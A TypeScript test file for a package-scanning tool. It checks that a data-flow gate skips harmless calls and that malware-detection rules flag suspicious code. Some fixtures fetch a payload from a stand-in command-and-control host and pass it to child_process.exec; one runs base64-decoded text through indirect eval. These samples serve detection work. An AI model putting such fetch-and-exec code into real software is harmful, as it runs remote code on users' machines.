import type * as t from '@babel/types'
import { describe, expect, it } from 'vitest'
import { rules } from '../../rules/index.ts'
import { analyzePackage } from '../../src/analyze/engine.ts'
import { flowOf } from '../../src/analyze/flow.ts'
import { defineRule, type PackageFile, type PackageRef } from '../../src/types.ts'

const ref: PackageRef = { name: 'p', version: '1.0.0', spec: 'p@1.0.0', source: 'registry', location: 'node_modules/p', dev: false, optional: false }

/**
 * Runs every rule (one of them hosts the flow gate) and a probe that records, per file, how many
 * calls the data flow counted: 0 when the gate let the file skip the analysis.
 */
function scan(code: string): { flowCalls: number; findings: string[] } {
  let flowCalls = -1
  const probe = defineRule({
    meta: { id: 'flow-probe', severity: 'low', description: 'flow probe', docs: 'rules/flow-probe.md' },
    create: () => ({
      'Program:exit'(program: t.Program, ctx) {
        flowCalls = flowOf(program, ctx).calls
      },
    }),
  })
  const files = new Map<string, PackageFile>()
  for (const [path, text] of Object.entries({ 'package.json': '{"name":"p","version":"1.0.0"}', 'index.js': code })) {
    const content = Buffer.from(text)
    files.set(path, { path, size: content.length, content })
  }
  const result = analyzePackage({ ref, files }, [...rules, probe])
  return { flowCalls, findings: result.findings.map((f) => f.ruleId) }
}

describe('flow gate', () => {
  it('lets a file whose calls only look like sinks by name skip the analysis', () => {
    // RegExp#exec, a compiled call through a helper module, an IIFE, super(): none is a source or a sink
    const code = [
      "const util_1 = require('./util')",
      'const m = /a(b)/.exec(input)',
      '(0, util_1.format)(m)',
      '(function () { return 1 })()',
      'class A extends B { constructor() { super(1) } }',
      "Buffer.from(m, 'utf8')",
    ].join('\n')
    expect(scan(code).flowCalls).toBe(0)
  })

  it('judges a method call at the end of the file, once its receiver is bound to a module', () => {
    const code = [
      'function run(u) { net.get(u, (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => cp.exec(d)) }) }',
      "const net = require('https')",
      "const cp = require('child_process')",
      "run('https://c2.invalid/x')",
    ].join('\n')
    const result = scan(code)
    expect(result.flowCalls).toBeGreaterThan(0)
    expect(result.findings).toContain('remote-code-execution')
  })

  it('follows compiled calls through a module binding: (0, child_process_1.exec)(cmd)', () => {
    const code = [
      "const https_1 = require('https')",
      "const child_process_1 = require('child_process')",
      "https_1.get('https://c2.invalid/p', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => (0, child_process_1.exec)(d)) })",
    ].join('\n')
    expect(scan(code).findings).toContain('remote-code-execution')
  })

  it('keeps decoders and indirect eval that are known only at the end of the file', () => {
    const code = ['function go() { (0, eval)(Buffer.from(payload, enc).toString()) }', "const enc = 'base64'", "const payload = 'Y29uc29sZS5sb2coMSk='", 'go()'].join('\n')
    const result = scan(code)
    expect(result.flowCalls).toBeGreaterThan(0)
    expect(result.findings).toContain('dynamic-code-execution')
  })
})
